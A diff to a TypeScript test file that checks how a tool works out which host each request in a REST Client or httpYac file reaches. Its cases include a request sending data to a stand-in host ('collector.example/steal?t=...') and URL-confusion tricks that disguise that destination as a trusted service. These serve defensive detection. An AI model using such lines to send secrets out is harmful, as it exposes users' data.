@@ -4,7 +4,7 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import * as fc from 'fast-check';
-import { isSameSite, requestHosts, requestLineHost } from '../../src/core/restFile/requestHost';
+import { isSameSite, requestDestinations, requestHosts, requestLineHost } from '../../src/core/restFile/requestHost';
 import { parseRestFile, requestAt } from '../../src/core/restFile/requestParser';
 import { CORPUS, corpusFiles } from './corpus';
 
@@ -24,8 +24,9 @@ describe('the host a request goes to', () => {
 		// A reference the file cannot fill, after the host: the host is still known.
 		['GET https://collector.example/steal?t={{unknownEnv}}', 'collector.example'],
 		['GET {{evil}}/{{unknownEnv}}', 'collector.example'],
-		['GET https://user.telematicssdk.com@collector.example/{{unknownEnv}}', 'collector.example'],
-		['GET https://collector.example\\{{unknownEnv}}', 'collector.example'],
+		// An authority the clients may read two ways (userinfo, a backslash) does not say.
+		['GET https://user.telematicssdk.com@collector.example/{{unknownEnv}}', undefined],
+		['GET https://collector.example\\{{unknownEnv}}', undefined],
 		['GET https://collector.example#{{unknownEnv}}', 'collector.example'],
 		// ...inside the host, it is not.
 		['GET https://collector{{unknownEnv}}.example/x', undefined],
@@ -66,6 +67,37 @@ describe('the host a request goes to', () => {
 	it('a variable that refers to itself is not followed forever', () => {
 		assert.equal(requestLineHost('GET {{a}}/x', new Map([['a', '{{a}}']])), undefined);
 	});
+});
+
+describe('the host a request goes to, read as REST Client and httpYac read it (issue 34)', () => {
+	const SERVICE = 'https://user.telematicssdk.com';
+	/** The distinct hosts the file's one request may reach ('?' where it does not say), sorted. */
+	const reached = (text: string): string[] => {
+		const file = parseRestFile(text);
+		return [...new Set(requestDestinations(file, file.requests).map((d) => d.host ?? '?'))].sort();
+	};
+	const cases: Array<[string, string, string[]]> = [
+		['a space in the target: the client reads the whole target', `GET ${SERVICE} @collector.example/x`, ['?']],
+		['a tab in the target', `GET ${SERVICE}\t@collector.example/x`, ['?']],
+		['a relative target: the Host header says where', 'GET /v1/trips\nHost: collector.example\n', ['collector.example']],
+		['a relative target whose Host is the service', 'GET /v1/trips\nHost: user.telematicssdk.com:443\n', ['user.telematicssdk.com']],
+		['a relative target without a Host header', 'GET /v1/trips\nAccept: */*\n', ['?']],
+		['a variable defined twice: both readings', `@base = ${SERVICE}\n\n###\nGET {{base}}/a\n\n###\n@base = https://collector.example\nGET {{base}}/b\n`, ['collector.example', 'user.telematicssdk.com']],
+		['a variable name outside the grammar', '@base$ = https://collector.example\n\n###\nGET {{base$}}/x\n', ['?']],
+		['an httpYac expression', "GET {{ 'https://collector.example' }}/x\n", ['?']],
+		['a backslash in the authority', `GET ${SERVICE}\\@collector.example/x`, ['?']],
+		['a query continuation line that moves the host', `GET ${SERVICE}\n    &@collector.example\n`, ['?']],
+		['an escaped @ in a variable\'s value', '@h = user.telematicssdk.com\\@collector.example\n\n###\nGET https://{{h}}/x\n', ['?']],
+		['a definition inside a request body (REST Client reads every line)', `@base = ${SERVICE}\n\n###\nPOST https://x.invalid/\n\n@base = https://collector.example\n\n###\nGET {{base}}/y\n`, ['collector.example', 'user.telematicssdk.com', 'x.invalid']],
+		['a percent escape in the host', 'GET https://collector%2eexample/x', ['?']],
+		['a bare host and path', 'collector.example/x', ['collector.example']],
+		['another scheme', 'WS ws://collector.example/x', ['?']],
+		// Benign twins: the same shapes aimed at the service ask nothing.
+		['benign: a version after the target', `GET ${SERVICE}/v1/x HTTP/1.1`, ['user.telematicssdk.com']],
+		['benign: a query continuation', `GET ${SERVICE}/v1/x\n    ?a=1\n    &b=@2\n`, ['user.telematicssdk.com']],
+		['benign: a variable defined twice alike', `@base = ${SERVICE}\n\n###\nGET {{base}}/a\n\n###\n@base = ${SERVICE}\nGET {{base}}/b\n`, ['user.telematicssdk.com']],
+	];
+	for (const [name, text, hosts] of cases) it(`${name} → ${hosts.join(', ')}`, () => assert.deepEqual(reached(text), hosts));
 });
 
 describe('the same site as the service', () => {
